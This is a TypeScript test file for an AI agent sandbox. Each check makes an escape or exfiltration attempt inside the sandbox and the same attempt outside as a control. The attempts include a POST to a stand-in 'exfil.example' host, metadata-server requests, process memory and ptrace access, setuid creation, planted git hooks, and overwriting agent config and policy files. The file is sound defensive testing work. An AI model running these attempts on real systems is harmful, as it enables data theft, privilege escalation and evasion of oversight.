// What a sandbox keeps in. One run makes every attempt; each check then looks at its own attempts,
// and at the same ones made outside as the same uid, which succeed. Targets that a host may not
// have (a docker socket, a metadata server) are stand-ins of the test's own.

import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect } from 'vitest';
import type { Entry } from '../../src/core/entry.ts';
import { verifies } from '../verifies.ts';
import {
  type Attempt,
  type Attempted,
  agentIds,
  denials,
  keyed,
  openPlace,
  type Place,
  type RunResult,
} from './place.ts';
import { scratch, strangeAuthority } from './upstreams.ts';

const token = (): string => randomBytes(12).toString('hex');
const CALLER_SECRET = token();
const VICTIM_ENVIRON = token();
const VICTIM_MEMORY = token();
const METADATA = '169.254.169.254';
/** Documentation addresses (RFC 5737): nobody's. */
const STRANGER = '203.0.113.7';
const OWN_PORTS = [80, 443, 3000, 5432, 8080];

// The token comes on stdin, so that it is in no argument and no variable.
const VICTIM = 'my $kept = <STDIN>; chomp $kept; $kept .= "!"; $| = 1; print "up\n"; sleep 600;';

const folder = scratch();
let place: Place;
let victim: ChildProcess;
const servers: Server[] = [];
let run: RunResult;
let entries: readonly Entry[];
let inside: Readonly<Record<string, Attempted>>;
let outside: Readonly<Record<string, Attempted>>;

beforeAll(async () => {
  const { uid, gid } = agentIds();
  chmodSync(folder.path, 0o755);
  place = await openPlace();
  victim = await startVictim(uid, gid);
  const pid = victim.pid as number;
  const port = await listen({ port: 0, host: '::' });
  const sockets = {
    docker: join(folder.path, 'docker.sock'),
    abstract: `\0belay-${token()}`,
    control: place.session.home && join(place.session.home, 'run/control.sock'),
  };
  await listen({ path: sockets.docker });
  chmodSync(sockets.docker, 0o666);
  await listen({ path: sockets.abstract });
  const others = Object.values(networkInterfaces())
    .flatMap((found) => found ?? [])
    .filter(({ internal, family }) => !internal && family === 'IPv4')
    .map(({ address }) => address);
  const get = (host: string): string =>
    `GET / HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`;

  // `both` are made inside and outside; the others need a namespace for their control, or have none.
  const both: Record<string, Attempt> = {
    env: ['env'],
    environScan: ['environScan', VICTIM_ENVIRON],
    memoryScan: ['memoryScan', VICTIM_MEMORY],
    memory: ['memory', pid, VICTIM_MEMORY],
    ptrace: ['ptrace', pid],
    docker: ['unix', sockets.docker],
    abstract: ['unix', sockets.abstract],
    loopback4: ['talk', '127.0.0.1', port, 'hello'],
    loopback6: ['talk', '::1', port, 'hello'],
    ...Object.fromEntries(others.map((host) => [`lan ${host}`, ['talk', host, port, get(host)]])),
    ownerOfUsr: ['owner', '/usr'],
    uidMap: ['read', '/proc/self/uid_map'],
    newRoot: ['shell', 'unshare --user --map-root-user id -u'],
  };
  const only: Record<string, Attempt> = {
    launcher: ['environScan', CALLER_SECRET],
    control: ['unix', sockets.control],
    setuid: ['perl', '$! = 0; $> = 0; $< = 0; print "$< $>"'],
    bridge: ['talk', '192.0.0.1', port, get('192.0.0.1')],
    imds: ['request', `http://${METADATA}/latest/meta-data/`],
    direct: ['talk', STRANGER, 80, get(STRANGER)],
    named: ['request', 'http://exfil.example/drop', { method: 'POST', body: 'data' }],
    encrypted: ['request', 'https://exfil.example/drop'],
    odd: ['request', `http://${STRANGER}:31337/`],
    raw: ['talk', STRANGER, 31338, 'not http at all\r\n\r\n', 1_500],
    lookup: ['lookup', 'some-name.example'],
    foreignResolver: ['lookup', 'other-name.example', '203.0.113.53'],
    text: ['lookupText', 'text-name.example'],
    udp: ['udp', STRANGER, 123],
    ownServers: ['serve', OWN_PORTS, [], '127.0.0.1'],
    ...Object.fromEntries(OWN_PORTS.map((own) => [`own ${own}`, ['talk', '127.0.0.1', own, 'hi']])),
  };
  const all = { ...both, ...only };
  const made = await place.attempt([], Object.values(all), {
    env: { BELAY_TEST_SECRET: CALLER_SECRET },
  });
  run = made.run;
  inside = keyed(all, made.results);
  entries = await place.entries(run.summary?.run);

  const plain = await place.control(Object.values(both), {
    env: { BELAY_TEST_SECRET: CALLER_SECRET },
  });
  const far: Record<string, Attempt> = {
    serve: ['serve', [80, 31337, 31338], [123]],
    imds: all.imds as Attempt,
    direct: all.direct as Attempt,
    odd: all.odd as Attempt,
    raw: all.raw as Attempt,
    udp: all.udp as Attempt,
  };
  const distant = await place.control(Object.values(far), { addresses: [METADATA, STRANGER] });
  outside = { ...keyed(both, plain), ...keyed(far, distant) };
}, 120_000);

afterAll(async () => {
  victim?.kill('SIGKILL');
  for (const server of servers) server.close();
  await place?.[Symbol.asyncDispose]();
  folder[Symbol.dispose]();
}, 60_000);

async function startVictim(uid: number, gid: number): Promise<ChildProcess> {
  const child = spawn('perl', ['-e', VICTIM], {
    env: { PATH: '/usr/bin:/bin', BELAY_TEST_VICTIM: VICTIM_ENVIRON },
    stdio: ['pipe', 'pipe', 'inherit'],
    ...(process.getuid?.() === 0 ? { uid, gid } : {}),
  });
  child.stdin?.write(`${VICTIM_MEMORY}\n`);
  await new Promise((resolve) => child.stdout?.once('data', resolve));
  return child;
}

async function listen(options: { port: number; host: string } | { path: string }): Promise<number> {
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', () => socket.end('HTTP/1.1 200 OK\r\ncontent-length: 4\r\n\r\nhost'));
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(options, resolve));
  const bound = server.address();
  return typeof bound === 'object' && bound !== null ? bound.port : 0;
}

const at = (host: string, port: number) =>
  entries.filter(
    (entry) =>
      (entry.type === 'denial' || entry.type === 'net.denial') &&
      entry.host === host &&
      entry.port === port,
  );

verifies('env.inherit', 'no variable of the caller reaches the agent', () => {
  expect(Object.values(outside.env?.value)).toContain(CALLER_SECRET);
  expect(inside.env?.value).toMatchObject({ HOME: '/home/agent' });
  expect(inside.env?.value).not.toHaveProperty('BELAY_TEST_SECRET');
  expect(inside.env?.value).not.toHaveProperty('BELAY_HOME');
  expect(Object.values(inside.env?.value)).not.toContain(CALLER_SECRET);
});

verifies('proc.environ-scan', 'no environment of an outside process is readable', () => {
  expect(outside.environScan?.value).toContain(`${victim.pid}/environ`);
  expect(inside.environScan?.value).toEqual([]);
  expect(inside.launcher?.value, 'the launcher holds the variable').toEqual([]);
});

verifies('proc.mem-victim', 'no memory of an outside process is readable', () => {
  expect(outside.memory?.value).toBe(true);
  expect(outside.memoryScan?.value).toContain(String(victim.pid));
  // It is not even in sight.
  expect(inside.memory?.error).toBe('ENOENT');
  expect(inside.memoryScan?.value).toEqual([]);
});

verifies('ptrace.attach', 'no outside process can be traced', () => {
  expect(outside.ptrace?.value).toBe('attached');
  // The filter's answer, before the kernel looks whether there is such a process.
  expect(inside.ptrace?.value).toBe('Operation not permitted');
});

verifies('unix.docker-sock', 'no unix socket of the host is reachable, by path or abstract', () => {
  expect(outside.docker?.value).toBe('connected');
  expect(outside.abstract?.value).toBe('connected');
  expect(inside.docker?.value).toMatch(/^(?:ENOENT|EACCES|ECONNREFUSED)$/);
  expect(inside.abstract?.value).toBe('ECONNREFUSED');
  expect(inside.control?.value, 'the control socket of Belay').toMatch(/^(?:ENOENT|EACCES)$/);
});

verifies('net.host-loopback-v4', "the host's loopback is not reachable, by any address", () => {
  expect(outside.loopback4?.value.heard).toContain('host');
  expect(inside.loopback4?.value).toEqual({ state: 'ECONNREFUSED', heard: '' });
  expect(inside.loopback6?.value.heard).toBe('');
  expect(inside.bridge?.value.heard).not.toMatch(/ 200 /);
  for (const [name, attempt] of Object.entries(inside)) {
    if (!name.startsWith('lan ')) continue;
    expect(outside[name]?.value.heard, name).toMatch(/ 200 /);
    expect(attempt.value.heard, name).not.toMatch(/ 200 /);
    const port = [...servers][0]?.address();
    const number = typeof port === 'object' && port !== null ? port.port : 0;
    expect(at(name.slice(4), number), name).not.toHaveLength(0);
  }
});

verifies('net.imds', 'the metadata address is denied and in the ledger', () => {
  expect(outside.imds?.value).toMatchObject({ status: 200, text: 'here' });
  expect(inside.imds?.value.status).toBe(403);
  expect(inside.imds?.value.text).not.toContain('here');
  expect(at(METADATA, 80)).toHaveLength(1);
});

verifies('net.noproxy-env', 'a program that ignores proxies is denied and in the ledger', () => {
  expect(outside.direct?.value.heard).toMatch(/ 200 .*here/s);
  expect(inside.env?.value).not.toHaveProperty('HTTPS_PROXY');
  expect(inside.direct?.value.heard).toMatch(/^HTTP\/1\.1 403 /);
  expect(at(STRANGER, 80)).toHaveLength(1);
  expect(inside.named?.value.status).toBe(403);
  expect(at('exfil.example', 80)).toMatchObject([{ method: 'POST', path: '/drop' }]);
  expect(inside.encrypted?.value.status).toBe(403);
  expect(at('exfil.example', 443)).toMatchObject([{ method: 'GET', scheme: 'https' }]);
});

verifies('net.odd-port', 'any port is seen with its number, denied and in the ledger', () => {
  expect(outside.odd?.value).toMatchObject({ status: 200, text: 'here' });
  expect(inside.odd?.value.status).toBe(403);
  expect(at(STRANGER, 31337)).toMatchObject([{ type: 'denial' }]);
  expect(outside.raw?.value.heard).toContain('here');
  expect(inside.raw?.value.heard).not.toContain('here');
  expect(at(STRANGER, 31338)).not.toHaveLength(0);
});

verifies('net.own-loopback', "the agent's own servers work on any port of its loopback", () => {
  expect(inside.ownServers?.value).toEqual(OWN_PORTS);
  for (const port of OWN_PORTS) expect(inside[`own ${port}`]?.value.heard).toContain('here');
  expect(entries.filter((entry) => 'host' in entry && entry.host === '127.0.0.1')).toEqual([]);
});

verifies('net.dns', 'every name resolves to a fake address and other UDP is refused', () => {
  const fake = /^198\.1[89]\.\d+\.\d+$/;
  expect(inside.lookup?.value).toMatchObject([{ family: 4, address: expect.stringMatching(fake) }]);
  expect(inside.foreignResolver?.value).toEqual([expect.stringMatching(fake)]);
  expect(inside.text?.value).toBe('ENODATA');
  expect(outside.udp?.value).toBe('answer: here');
  expect(inside.udp?.value).toMatch(/^(?:ECONNREFUSED|EHOSTUNREACH|ENETUNREACH|EPERM)$/);
});

verifies('uid0-not-mapped', 'uid 0 does not exist inside', () => {
  expect(outside.ownerOfUsr?.value).toBe(0);
  expect(inside.ownerOfUsr?.value).toBe(65534);
  expect(inside.uidMap?.value.trim()).toMatch(/^1000\s+\d+\s+1$/);
  expect(inside.setuid?.value.out).toBe('1000 1000');
  expect(outside.newRoot?.value, 'a user namespace makes a root').toMatchObject({ out: '0' });
  expect(inside.newRoot?.value.status).not.toBe(0);
});

const GIT_ATTEMPTS = {
  hook: 'echo evil > .git/hooks/pre-commit',
  renamedHooks: 'mv .git/hooks .git/aside && mkdir .git/hooks && echo evil > .git/hooks/pre-commit',
  config: 'echo "[core] fsmonitor = evil" >> .git/config',
  renamedGit: 'mv .git .aside && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
  mcp: 'echo evil > .mcp.json',
  claude: 'mkdir -p .claude && echo evil > .claude/settings.json',
  linked:
    'rm -rf .claude; mkdir -p aside && ln -s aside .claude && echo evil > .claude/settings.json',
  workflow: 'mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml',
};

verifies(
  'fsw.git-hooks',
  'git hooks and agent configuration cannot be written, made or replaced',
  async () => {
    const shells = Object.values(GIT_ATTEMPTS).map((text): Attempt => ['shell', text]);
    layRepository(place.workdir);
    const made = await place.attempt([], [...shells, ['shell', 'echo work > ordinary.txt']]);
    for (const [i, name] of Object.keys(GIT_ATTEMPTS).entries()) {
      expect(made.results[i]?.value.status, name).not.toBe(0);
    }
    expect(made.results.at(-1)?.value.status, 'an ordinary file').toBe(0);
    expect(readFileSync(join(place.workdir, '.git/config'), 'utf8')).toBe('[core]\n');
    const search = ['grep', '-rl', '--exclude=attempts-*', 'evil', '.'];
    const left = await place.session.exec(search, { cwd: place.workdir });
    expect(left.stdout).toBe('');

    for (const [name, text] of Object.entries(GIT_ATTEMPTS)) {
      const copy = join(folder.path, 'repository');
      rmSync(copy, { recursive: true, force: true });
      mkdirSync(copy);
      layRepository(copy, agentIds());
      const { status } = await place.outside(['sh', '-c', text], { cwd: copy });
      expect(status, `outside: ${name}`).toBe(0);
    }
  },
  { timeoutMs: 60_000 },
);

verifies(
  ['fsw.own-policy', 'fsr.secret-file'],
  'an agent can write nothing that says what its next run may do, nor read a file that holds a key',
  async () => {
    await using own = await openPlace();
    const { workdir } = own;
    const agent = agentIds();
    const key = token();
    for (const name of ['rules', 'keys']) mkdirSync(join(workdir, name));
    const permit = 'permit (principal, action, resource);';
    const files = {
      'rules/web.cedar': '@id("nothing")\nforbid (principal, action, resource);\n',
      'keys/ca.pem': strangeAuthority(),
      'keys/api.txt': `${key}\n`,
      'belay.jsonc': JSON.stringify({
        version: 1,
        agents: { tester: { environment: 'local' } },
        environments: { local: {} },
        policies: 'rules',
        upstreams: {
          'api.example': { address: '127.0.0.1:9', tls: { ca: './keys/ca.pem' } },
        },
        credentials: {
          api: {
            from: 'file:./keys/api.txt',
            environment: 'local',
            host: 'api.example',
            methods: ['GET'],
            paths: ['/**'],
            header: 'authorization',
          },
        },
      }),
    };
    for (const [name, text] of Object.entries(files)) own.put(name, text);
    const attempts = [
      ...['belay.jsonc', 'rules/web.cedar', 'keys/ca.pem'].map((name) => `echo evil > ${name}`),
      `echo '${permit}' > rules/more.cedar`,
      'rm rules/web.cedar',
      'mv rules other && mkdir rules',
      'mv keys other',
      'grep . keys/api.txt',
    ];
    const shells = attempts.map((text): Attempt => ['shell', text]);
    const { results } = await own.attempt([], shells);
    for (const [i, text] of attempts.entries()) {
      expect(results[i]?.value.status, text).not.toBe(0);
      expect(JSON.stringify(results[i])).not.toContain(key);
    }
    for (const [name, text] of Object.entries(files)) {
      expect(readFileSync(join(workdir, name), 'utf8'), name).toBe(text);
    }

    // The same outside, as the same uid: each of them works.
    for (const name of ['', 'rules', 'keys', ...Object.keys(files)]) {
      if (process.getuid?.() === 0) chownSync(join(workdir, name), agent.uid, agent.gid);
    }
    for (const text of attempts.toReversed()) {
      const { status } = await own.outside(['sh', '-c', text], { cwd: workdir });
      expect(status, `outside: ${text}`).toBe(0);
      if (text.startsWith('mv keys')) await own.outside(['mv', 'other', 'keys'], { cwd: workdir });
      if (text.startsWith('mv rules')) {
        await own.outside(['sh', '-c', 'rmdir rules && mv other rules'], { cwd: workdir });
      }
    }
  },
  { timeoutMs: 60_000 },
);

function layRepository(at: string, owner?: { readonly uid: number; readonly gid: number }): void {
  mkdirSync(join(at, '.git/hooks'), { recursive: true });
  const files = { '.git/config': '[core]\n', '.git/HEAD': 'ref: refs/heads/main\n' };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(at, name), text);
  if (owner === undefined || process.getuid?.() !== 0) return;
  for (const name of ['', '.git', '.git/hooks', ...Object.keys(files)]) {
    chownSync(join(at, name), owner.uid, owner.gid);
  }
}

const SET_ID: Record<string, string> = {
  chmod4755: 'cp /bin/true FILE && chmod 4755 FILE',
  chmod2755: 'cp /bin/true FILE && chmod 2755 FILE',
  fchmod: `perl -e 'open my $f, ">", "FILE"; chmod 04755, $f or die $!'`,
  open: `perl -MFcntl -e 'sysopen my $f, "FILE", O_CREAT | O_WRONLY, 06755 or die $!'`,
  install: 'install -m 4755 /bin/true FILE',
  mknod: `perl -e 'my $p = "FILE\\0"; syscall(133, $p, 0104755, 0) == 0 or die $!'`,
  fchmodat2: `perl -e 'my $p = "FILE"; open my $f, ">", $p; syscall(452, -100, $p, 04755, 0) == 0 or die $!'`,
};
if (process.arch !== 'x64') delete SET_ID.mknod;

verifies(
  'fsw.set-uid',
  'no set-uid or set-gid file can be made',
  async () => {
    const shells = Object.entries(SET_ID).map(
      ([name, text]): Attempt => ['shell', `umask 0; ${text.replaceAll('FILE', `made-${name}`)}`],
    );
    const made = await place.attempt([], shells);
    const found = ['find', '.', '-perm', '/6000', '-printf', '%f\\n'];
    for (const [i, name] of Object.keys(SET_ID).entries()) {
      expect(made.results[i]?.value.status, name).not.toBe(0);
    }
    expect((await place.session.exec(found, { cwd: place.workdir })).stdout).toBe('');

    const copy = join(folder.path, 'set-id');
    mkdirSync(copy);
    if (process.getuid?.() === 0) chownSync(copy, agentIds().uid, agentIds().gid);
    for (const shell of shells) {
      await place.outside(['sh', '-c', shell[1] as string], { cwd: copy });
    }
    const all = (await place.session.exec(found, { cwd: copy })).stdout.trim().split('\n').sort();
    expect(all).toEqual(
      Object.keys(SET_ID)
        .map((name) => `made-${name}`)
        .sort(),
    );
  },
  { timeoutMs: 30_000 },
);

verifies('log.denials', 'each denial is an entry and holds what the agent was told', () => {
  const told = denials(entries).map(({ told }) => told);
  expect(told.length).toBeGreaterThan(3);
  for (const { status, message } of told) {
    expect(status).toBeGreaterThanOrEqual(400);
    expect(message).not.toBe('');
  }
  expect(inside.named?.value.text).toContain(
    denials(entries).find(({ host }) => host === 'exfil.example')?.told.message,
  );
});
